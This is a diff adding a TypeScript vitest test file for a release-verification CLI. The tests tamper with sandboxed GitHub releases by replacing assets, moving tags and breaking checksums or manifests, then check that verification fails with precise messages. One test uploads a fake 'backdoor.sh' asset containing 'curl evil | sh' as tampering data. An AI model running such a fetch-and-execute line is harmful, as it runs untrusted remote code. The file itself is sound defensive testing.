@@ -1,0 +1,305 @@
+/**
+ * gatehouse verify against the sandbox: a release made by the built change-gate and release-bundle
+ * bundles, as a workflow makes it, then verified from GitHub alone — and then tampered with, one
+ * way per check, each failing with a message that names what is wrong.
+ */
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { runCli } from "../packages/cli/src/cli";
+import type { Scenario } from "../packages/sandbox/src/scenario";
+import { startSandbox } from "../packages/sandbox/src/server";
+import { api } from "../packages/sandbox/src/testing";
+import type { Repo } from "../packages/sandbox/src/types";
+import { changeRequest, pull, RUN_ID, world } from "./change-gate.fixture";
+import { runAction } from "./harness";
+
+type Sb = Awaited<ReturnType<typeof startSandbox>>;
+const sandboxes: Sb[] = [];
+const dirs: string[] = [];
+afterEach(async () => {
+  await Promise.all(sandboxes.splice(0).map((s) => s.close()));
+});
+afterAll(() => {
+  for (const d of dirs) rmSync(d, { recursive: true, force: true });
+});
+
+const ARTEFACTS = { "dist/shop-linux.tar.gz": "linux build", "dist/shop-mac.zip": "mac build" };
+
+/** acme/shop: PR #12 by bob links CR #5 (alice's), approved by carol; dave reviews production. */
+function shopWorld(tweak: (sc: Scenario) => void = () => {}): Scenario {
+  const sc = world({
+    crs: [changeRequest(5)],
+    pulls: [pull(12, "feat: billing", "Adds billing.\n\nChange-Request: #5")],
+  });
+  const repo = sc.repos![0]!;
+  repo.environments = [{ name: "production", reviewers: ["dave"], preventSelfReview: true }];
+  repo.runs = [
+    {
+      id: RUN_ID,
+      actor: "bob",
+      approvals: [
+        {
+          user: "dave",
+          state: "approved",
+          comment: "Go",
+          environments: ["production"],
+          at: "2026-03-02T11:30:00Z",
+        },
+      ],
+    },
+  ];
+  sc.tokens = [{ value: "ghp_issues_only", user: "auditor", permissions: { issues: "read" } }];
+  tweak(sc);
+  return sc;
+}
+
+async function sandbox(sc: Scenario = shopWorld()) {
+  const sb = await startSandbox(sc);
+  sandboxes.push(sb);
+  return sb;
+}
+
+const shop = (sb: Sb): Repo => sb.state.repos.find((r) => r.owner === "acme" && r.name === "shop")!;
+
+/** The workflow: change-gate assesses, release-bundle releases what it assessed. */
+async function release(sb: Sb, files: Record<string, string> = ARTEFACTS) {
+  const workspace = mkdtempSync(join(tmpdir(), "verify-ws-"));
+  dirs.push(workspace);
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(join(workspace, path, ".."), { recursive: true });
+    writeFileSync(join(workspace, path), text);
+  }
+  const gate = await runAction("change-gate", {
+    sandbox: sb,
+    repository: "acme/shop",
+    runId: RUN_ID,
+    workspace,
+    inputs: { environment: "production" },
+  });
+  expect(gate.outputs.decision, gate.stdout + gate.stderr).toBe("allow");
+  const bundle = await runAction("release-bundle", {
+    sandbox: sb,
+    repository: "acme/shop",
+    runId: RUN_ID,
+    workspace,
+    inputs: {
+      version: "1.1.0",
+      files: "dist/*",
+      environment: "production",
+      "change-requests": gate.outputs["change-requests"]!,
+      range: `${gate.outputs["base-sha"]}...${gate.outputs["head-sha"]}`,
+    },
+  });
+  expect(bundle.exitCode, bundle.stdout + bundle.stderr).toBe(0);
+  const rel = shop(sb).releases.find((r) => r.tagName === "v1.1.0")!;
+  expect(rel.draft).toBe(false);
+  return { workspace, release: rel };
+}
+
+interface Verdict {
+  code: number;
+  json: {
+    repository: string;
+    tag: string;
+    ok: boolean;
+    checks: { name: string; ok: boolean; detail: string }[];
+  };
+  check: (name: string) => { name: string; ok: boolean; detail: string };
+}
+
+async function verify(sb: Sb, args: string[] = [], token = sb.token): Promise<Verdict> {
+  const out: string[] = [];
+  const err: string[] = [];
+  const code = await runCli(["verify", "--repository", "acme/shop", "--tag", "v1.1.0", "--json", ...args], {
+    out: (t) => out.push(t),
+    err: (t) => err.push(t),
+    cwd: process.cwd(),
+    env: { GITHUB_TOKEN: token, GITHUB_API_URL: sb.apiUrl, GITHUB_GRAPHQL_URL: sb.graphqlUrl },
+  });
+  expect(out, err.join("\n")).toHaveLength(1);
+  const json = JSON.parse(out[0]!) as Verdict["json"];
+  return { code, json, check: (name) => json.checks.find((c) => c.name === name)! };
+}
+
+/** Replaces (or adds) an asset through the API, as someone with contents: write can. */
+async function putAsset(sb: Sb, releaseId: number, name: string, content: string) {
+  const gh = api(sb);
+  const existing = shop(sb)
+    .releases.find((r) => r.id === releaseId)!
+    .assets.find((a) => a.name === name);
+  if (existing) expect((await gh.delete(`/repos/acme/shop/releases/assets/${existing.id}`)).status).toBe(204);
+  const res = await fetch(`${sb.uploadsUrl}/repos/acme/shop/releases/${releaseId}/assets?name=${name}`, {
+    method: "POST",
+    headers: { authorization: `token ${sb.token}`, "content-type": "application/octet-stream" },
+    body: content,
+  });
+  expect(res.status).toBe(201);
+}
+
+describe("gatehouse verify: a release made by the workflow, then tampered with", () => {
+  // One release for these tests: each puts back what it changed.
+  let sb: Sb;
+  let made: Awaited<ReturnType<typeof release>>;
+  const original = (name: string) =>
+    Buffer.from(made.release.assets.find((a) => a.name === name)!.content!).toString("utf8");
+  beforeAll(async () => {
+    sb = await startSandbox(shopWorld());
+    made = await release(sb);
+  });
+  afterAll(() => sb.close());
+
+  it("passes, every check by name, in few requests", async () => {
+    const before = sb.requests.length;
+    const v = await verify(sb, ["--assets", join(made.workspace, "dist")]);
+    expect(v.json.checks.map((c) => c.name)).toEqual([
+      "published",
+      "commit",
+      "manifest",
+      "assets",
+      "checksums",
+      "approvals",
+      "environment-approvals",
+      "freeze",
+    ]);
+    const core = ["published", "commit", "manifest", "assets", "checksums"];
+    expect(v.json.checks.filter((c) => core.includes(c.name) && !c.ok)).toEqual([]);
+    expect(v.json).toMatchObject({ repository: "acme/shop", tag: "v1.1.0" });
+    expect(v.check("assets").detail).toMatch(/2 artefacts.*and 2 local files hashed/);
+    expect(v.check("published").detail).toMatch(/not immutable \(.*it needs `administration: read`\)/);
+    expect(sb.requests.length - before).toBeLessThanOrEqual(15);
+    expect(sb.violations).toEqual([]);
+  });
+
+  it("fails an asset replaced after the release, naming it", async () => {
+    await putAsset(sb, made.release.id, "shop-mac.zip", "mac build, patched");
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("assets")).toMatchObject({ ok: false });
+      expect(v.check("assets").detail).toMatch(
+        /shop-mac\.zip is 18 bytes on the release, 9 in the manifest: it was replaced/,
+      );
+    } finally {
+      await putAsset(sb, made.release.id, "shop-mac.zip", "mac build");
+    }
+  });
+
+  it("fails an asset of the same size with other bytes, by GitHub's digest", async () => {
+    await putAsset(sb, made.release.id, "shop-mac.zip", "MAC BUILD");
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("assets").detail).toMatch(
+        /shop-mac\.zip's SHA-256 on GitHub is .*, the manifest's .*: it was replaced/,
+      );
+    } finally {
+      await putAsset(sb, made.release.id, "shop-mac.zip", "mac build");
+    }
+  });
+
+  it("fails a local copy that is not the release's (--assets)", async () => {
+    const dir = mkdtempSync(join(tmpdir(), "verify-local-"));
+    dirs.push(dir);
+    writeFileSync(join(dir, "shop-linux.tar.gz"), "linux build, local");
+    const v = await verify(sb, ["--assets", dir]);
+    expect(v.code).toBe(1);
+    expect(v.check("assets").detail).toMatch(/^the local shop-linux\.tar\.gz \(18 bytes/);
+    expect(v.check("assets").detail).toMatch(/shop-mac\.zip is not in the local directory/);
+  });
+
+  it("fails an extra asset, naming it", async () => {
+    await putAsset(sb, made.release.id, "backdoor.sh", "curl evil | sh");
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("assets").detail).toMatch(/on the release but not in the manifest: backdoor\.sh/);
+    } finally {
+      const extra = shop(sb)
+        .releases.find((r) => r.id === made.release.id)!
+        .assets.find((a) => a.name === "backdoor.sh")!;
+      await api(sb).delete(`/repos/acme/shop/releases/assets/${extra.id}`);
+    }
+  });
+
+  it("fails a changed line of SHA256SUMS, naming the file", async () => {
+    const text = original("SHA256SUMS");
+    const changed = text.replace(/^[0-9a-f]{64}(?= {2}shop-linux\.tar\.gz$)/m, "0".repeat(64));
+    expect(changed).not.toBe(text);
+    await putAsset(sb, made.release.id, "SHA256SUMS", changed);
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("checksums").detail).toMatch(
+        /the line for shop-linux\.tar\.gz says 0000000000000000…, the manifest says/,
+      );
+      expect(v.check("assets").ok).toBe(true);
+    } finally {
+      await putAsset(sb, made.release.id, "SHA256SUMS", text);
+    }
+  });
+
+  it("fails a tag moved after the release, naming both commits", async () => {
+    const released = shop(sb).refs.get("refs/tags/v1.1.0")!;
+    const initial = [...shop(sb).commits.values()].find((c) => c.message.startsWith("chore: initial"))!.sha;
+    expect(
+      (await api(sb).patch("/repos/acme/shop/git/refs/tags/v1.1.0", { sha: initial, force: true })).status,
+    ).toBe(200);
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("commit").detail).toBe(
+        `The tag v1.1.0 points to ${initial.slice(0, 12)}, but the manifest says the release is ${released.slice(0, 12)}: the tag was moved after the release.`,
+      );
+    } finally {
+      await api(sb).patch("/repos/acme/shop/git/refs/tags/v1.1.0", { sha: released, force: true });
+    }
+  });
+
+  it("cannot tell without permission: exit 2, naming the permission", async () => {
+    const v = await verify(sb, [], "ghp_issues_only");
+    expect(v.code).toBe(2);
+    expect(v.json.ok).toBe(false);
+    expect(v.check("published").detail).toMatch(
+      /The token cannot read the release v1\.1\.0 of acme\/shop: it needs `contents: read`/,
+    );
+  });
+
+  it("fails a manifest that is not valid against the shipped schema, naming the field", async () => {
+    const text = original("release-manifest.json");
+    const manifest = JSON.parse(text);
+    manifest.commit = "not-a-sha";
+    await putAsset(sb, made.release.id, "release-manifest.json", JSON.stringify(manifest));
+    try {
+      const v = await verify(sb);
+      expect(v.code).toBe(1);
+      expect(v.check("manifest").detail).toMatch(
+        /does not match the release manifest schema: \/commit must match pattern/,
+      );
+    } finally {
+      await putAsset(sb, made.release.id, "release-manifest.json", text);
+    }
+  });
+
+  it("fails a release without its manifest; the other checks say why they were not made", async () => {
+    const manifest = shop(sb)
+      .releases.find((r) => r.id === made.release.id)!
+      .assets.find((a) => a.name === "release-manifest.json")!;
+    expect((await api(sb).delete(`/repos/acme/shop/releases/assets/${manifest.id}`)).status).toBe(204);
+    const v = await verify(sb);
+    expect(v.code).toBe(1);
+    expect(v.check("manifest")).toMatchObject({ ok: false });
+    expect(v.check("manifest").detail).toMatch(/The release has no release-manifest\.json/);
+    expect(v.check("approvals").detail).toMatch(/Not checked: without a valid manifest/);
+  });
+});
+
+describe("gatehouse verify", () => {
+  it("says there is no release of a tag", async () => {
+    const sb = await sandbox();
+    const v = await verify(sb);
+    expect(v.code).toBe(1);
+    expect(v.check("published").detail).toBe("There is no published release of tag v1.1.0.");
+  });
+});
